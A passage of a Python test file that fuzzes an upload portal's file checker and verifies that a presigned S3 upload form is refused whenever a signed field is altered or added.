    over = b"%PDF-1.7\n" + b"\0" * (MAX_BYTES - 9) + b"\n"
    assert len(over) == MAX_BYTES + 1
    assert uploads.check(io.BytesIO(over), None, "audit_report").reason == "upload.too_large"
    assert uploads.check(io.BytesIO(over[:-1]), None, "audit_report").reason == UNREADABLE


# --- The property, on mutated real files -------------------------------------------------------


@settings(
    max_examples=FUZZ_EXAMPLES,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(hostile_files(), st.sampled_from(KINDS))
def test_fuzz_never_crashes_and_always_says_why(data, kind):
    judged(data, kind)


# --- The upload form: tampered fields are refused as S3 refuses them ----------------------------


@pytest.fixture
def signed_form(monkeypatch):
    """The presigned POST portal.adapters.files makes for an audit report (signed offline, test credentials)."""
    from portal import settings
    from portal.adapters import files

    for name, value in {
        "AWS_ACCESS_KEY_ID": "testing",
        "AWS_SECRET_ACCESS_KEY": "testing",
        "AWS_SESSION_TOKEN": "testing",
        "REPORTS_BUCKET": "ieh-reports",
        "TABLE_NAME": "ieh-portal",
    }.items():
        monkeypatch.setenv(name, value)
    monkeypatch.delenv("AWS_ENDPOINT_URL", raising=False)
    monkeypatch.delenv("UPLOAD_URL", raising=False)
    monkeypatch.setattr(settings, "_current", settings.Settings.from_environ())
    return files.upload_form("quarantine/org/audit/-/doc", "application/pdf", MAX_BYTES)["fields"]


def _refusal(fields: dict, size: int = 1000, bucket: str = "ieh-reports"):
    from infra.local import s3_post

    return s3_post.verify(s3_post.Form({k.lower(): v for k, v in fields.items()}, size), bucket, "testing")


TAMPERED_NAMES = ("key", "Content-Type", "policy", "x-amz-signature", "x-amz-credential", "x-amz-date",
                  "x-amz-algorithm", "x-amz-security-token", "acl", "success_action_redirect",
                  "x-amz-meta-note", "Cache-Control", "tagging")  # fmt: skip


def test_the_form_as_signed_is_accepted_at_any_size_it_allows(signed_form):
    assert _refusal(signed_form, 1) is None
    assert _refusal(signed_form, MAX_BYTES) is None
    assert _refusal(signed_form, 0).code == "EntityTooSmall"
    assert _refusal(signed_form, MAX_BYTES + 1).code == "EntityTooLarge"
    assert _refusal(signed_form, bucket="another-bucket").code == "AccessDenied"


@settings(max_examples=FUZZ_EXAMPLES, deadline=None, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])  # fmt: skip
@given(
    name=st.sampled_from(TAMPERED_NAMES) | st.from_regex(r"[A-Za-z][A-Za-z0-9_-]{0,20}", fullmatch=True),
    value=st.text(max_size=80) | st.sampled_from(["documents/org/audit/doc", "text/html", "quarantine/"]),
    size=st.integers(1, MAX_BYTES),
)
def test_fuzz_a_tampered_form_field_is_refused(signed_form, name, value, size):
    """Any field changed or added (but the x-ignore- ones S3 skips) makes S3 refuse the form."""
    same = next((v for k, v in signed_form.items() if k.lower() == name.lower()), None)
    if name.lower().startswith("x-ignore-") or name.lower() in ("file", "bucket"):
        return  # fields S3 skips, the file itself, and the bucket (its condition reads the request's)
    fields = {k: v for k, v in signed_form.items() if k.lower() != name.lower()} | {name: value}
    refused = _refusal(fields, size)
    if value == same:
        assert refused is None
    else:
        assert refused is not None, (name, value)
        assert refused.status == 403
        assert refused.code in ("AccessDenied", "SignatureDoesNotMatch")
